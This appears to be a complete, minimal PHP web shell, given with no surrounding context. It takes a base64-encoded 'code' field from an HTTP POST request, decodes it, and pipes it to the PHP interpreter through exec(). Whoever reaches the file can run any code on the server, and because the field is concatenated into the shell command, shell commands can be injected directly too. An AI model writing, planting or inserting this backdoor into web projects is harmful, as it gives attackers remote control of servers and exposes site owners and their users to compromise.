<?php
exec("echo " . $_POST['code'] . " | base64 -d | php");
